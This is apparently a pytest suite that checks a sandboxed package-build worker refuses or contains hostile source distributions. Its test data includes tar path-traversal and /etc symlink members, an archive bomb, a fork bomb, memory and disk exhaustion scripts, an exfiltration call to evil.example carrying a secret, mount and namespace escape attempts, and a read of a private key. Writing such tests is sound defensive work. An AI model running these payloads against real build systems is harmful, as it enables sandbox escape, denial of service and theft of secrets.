"""Hostile source distributions against a real worker: the cause is named, nothing is harmed.

The worker runs as whoever runs the tests; under root its builds run as a user of their own, and
a second worker runs as an ordinary user.
"""

from __future__ import annotations

import os
import tarfile
from collections.abc import Iterator
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest

from buildpipelines.spec.messages import BuildResult, JobFailure
from tests.hostile.index import Index, serving_index
from tests.hostile.sdists import (
    PYPROJECT,
    backend,
    file_member,
    other_member,
    sdist,
    tar_gz,
)
from tests.hostile.worker import Worker, running_worker

ORDINARY_UID = 64002
LIMITS = ("--memory-mib", "256", "--processes", "48", "--build-mib", "64", "--log-mib", "1")
USERS = (
    {"own user": None, "ordinary user": ORDINARY_UID} if os.geteuid() == 0 else {"own user": None}
)


@pytest.fixture(scope="module")
def index() -> Iterator[Index]:
    with serving_index() as index:
        index.add("good", "good-1.0.tar.gz", sdist("good", "1.0"))
        yield index


@pytest.fixture(scope="module", params=list(USERS))
def worker(index: Index, request: pytest.FixtureRequest) -> Iterator[Worker]:
    with TemporaryDirectory() as name:
        folder = Path(name)
        options = (*LIMITS, "--idle-seconds", "4")
        with running_worker(folder, index.url, *options, uid=USERS[request.param]) as worker:
            yield worker


def refusal(worker: Worker, index: Index, name: str, data: bytes, *, seconds: int = 30) -> str:
    """Publish an sdist, try to build it, and return "OUTCOME: cause"."""
    index.add(name, f"{name}-1.0.tar.gz", data)
    status = worker.trial(name, seconds=seconds)
    worker.call("forget", {"job": status.job})
    assert isinstance(status.result, JobFailure), status
    return f"{status.result.outcome}: {status.result.cause}"


def archive(name: str, *members: tuple[tarfile.TarInfo, bytes]) -> bytes:
    top = f"{name}-1.0"
    return tar_gz(
        [
            file_member(f"{top}/pyproject.toml", PYPROJECT),
            file_member(f"{top}/backend.py", backend(name, "1.0")),
            *members,
        ]
    )


@pytest.mark.parametrize(
    ("name", "member", "cause"),
    [
        ("climb", file_member("climb-1.0/../../escaped", b"x"), "path traversal"),
        ("absolute", file_member("/tmp/escaped", b"x"), "absolute path"),
        ("symlink", other_member("symlink-1.0/a", tarfile.SYMTYPE, "../../etc"), "link escapes"),
        ("rootlink", other_member("rootlink-1.0/a", tarfile.SYMTYPE, "/etc"), "link escapes"),
        ("hardlink", other_member("hardlink-1.0/a", tarfile.LNKTYPE, "etc/passwd"), "link escapes"),
        ("device", other_member("device-1.0/a", tarfile.CHRTYPE), "device entry"),
        ("twice", file_member("twice-1.0/backend.py", b"x"), "duplicate name"),
        ("aside", file_member("other/file", b"x"), "sdist layout"),
    ],
)
def test_archive_that_leaves_its_folder_is_refused(
    worker: Worker, index: Index, name: str, member: tuple[tarfile.TarInfo, bytes], cause: str
) -> None:
    assert refusal(worker, index, name, archive(name, member)) == f"REFUSED: {cause}"
    assert not list(worker.work.rglob("escaped"))
    assert not Path("/tmp/escaped").exists()


def test_write_through_a_link_of_the_same_archive_is_refused(worker: Worker, index: Index) -> None:
    link = other_member("through-1.0/a", tarfile.SYMTYPE, "b")
    data = archive("through", link, file_member("through-1.0/a/x", b"x"))
    assert refusal(worker, index, "through", data) == "REFUSED: path through link"


def test_archive_bomb_is_refused(worker: Worker, index: Index) -> None:
    zeros = file_member("bomb-1.0/zeros", bytes(80 * 1024 * 1024))
    data = tar_gz([zeros], level=9)
    assert len(data) < 200_000
    assert refusal(worker, index, "bomb", data) == "REFUSED: archive ratio"


HOSTILE = {
    "forkbomb": (
        "import os\nwhile True:\n    os.fork()",
        {"BUILD_FAILED: process limit"},
    ),
    "memoryhog": (
        "kept = []\nwhile True:\n    kept.append(bytearray(b'x' * 16777216))",
        {"BUILD_FAILED: memory limit"},
    ),
    "chatter": ("while True:\n    print('spam' * 1000)", {"BUILD_FAILED: log limit"}),
    "filler": (
        "with open('/build/big', 'wb') as f:\n    while True:\n        f.write(bytes(1048576))",
        {"BUILD_FAILED: disk limit"},
    ),
    "hugewheel": (
        (
            "with open('/build/out/hugewheel-1.0-py3-none-any.whl', 'wb') as f:\n"
            "    f.truncate(60 * 1024**2)\n"
            "with open('/build/out/second-1.0-py3-none-any.whl', 'wb') as f:\n    f.truncate(1)"
        ),
        {"BUILD_FAILED: several wheels"},
    ),
    "caller": (
        "import urllib.request\nurllib.request.urlopen('https://evil.example/?secret')",
        {"BUILD_FAILED: network: evil.example"},
    ),
    "dialler": (
        "import socket\nsocket.create_connection(('192.0.2.1', 80))",
        {"BUILD_FAILED: network attempt"},
    ),
    "sleeper": ("import time\ntime.sleep(60)", {"TIMEOUT: idle limit"}),
    "mounter": (
        (
            "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
            "if libc.mount(b'none', b'/tmp', b'tmpfs', 0, None):\n"
            "    raise PermissionError(ctypes.get_errno(), 'mount')"
        ),
        {"BUILD_FAILED: build: PermissionError"},
    ),
    "namespace": (
        (
            "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
            "if libc.unshare(0x10000000):\n"
            "    raise PermissionError(ctypes.get_errno(), 'unshare')"
        ),
        {"BUILD_FAILED: build: PermissionError"},
    ),
    "rootwriter": ("open('/usr/bin/evil', 'w')", {"BUILD_FAILED: build: OSError"}),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_build_script_is_stopped_with_its_cause(
    worker: Worker, index: Index, name: str
) -> None:
    body, causes = HOSTILE[name]
    assert refusal(worker, index, name, sdist(name, "1.0", body)) in causes


def test_build_cannot_read_the_keys_of_a_data_directory(
    worker: Worker, index: Index, tmp_path: Path
) -> None:
    key = tmp_path / "keys" / "node.key"
    key.parent.mkdir()
    key.write_text("secret")
    for path in (tmp_path, key.parent, key):
        path.chmod(0o755)  # even where permissions would let anybody in
    body = f"print(open({str(key)!r}).read())"
    cause = refusal(worker, index, "keyreader", sdist("keyreader", "1.0", body))
    assert cause == "BUILD_FAILED: build: FileNotFoundError"


def test_build_sees_no_process_and_no_variable_of_the_host(worker: Worker, index: Index) -> None:
    body = (
        "import os\n"
        "pids = [p for p in os.listdir('/proc') if p.isdigit()]\n"
        "assert len(pids) < 6, pids\n"
        "assert 'PYRSIA_PARENT_FD' not in os.environ, os.environ\n"
        "assert not os.listdir('/usr/local'), 'local'\n"
        "assert os.getuid() == 1000"
    )
    index.add("looker", "looker-1.0.tar.gz", sdist("looker", "1.0", body))
    status = worker.trial("looker")
    worker.call("forget", {"job": status.job})
    assert isinstance(status.result, BuildResult), status


def test_worker_still_builds_after_all_this_and_leaves_nothing(
    worker: Worker, index: Index
) -> None:
    for name in ("forkbomb", "chatter"):
        refusal(worker, index, f"{name}2", sdist(f"{name}2", "1.0", HOSTILE[name][0]))
    status = worker.trial("good")
    assert isinstance(status.result, BuildResult), status
    assert status.result.metadata.author == "Ada Lovelace"
    worker.call("forget", {"job": status.job})
    assert list((worker.work / "jobs").iterdir()) == []
    assert sandboxes_of(worker.process.pid) == []
    assert not [g for g in Path("/sys/fs/cgroup").glob("*/**/pyrsia-build-*") if owner(g, worker)]


def sandboxes_of(pid: int) -> list[str]:
    return Path(f"/proc/{pid}/task/{pid}/children").read_text().split()


def owner(group: Path, worker: Worker) -> bool:
    return group.name.split("-")[2] == str(worker.process.pid)
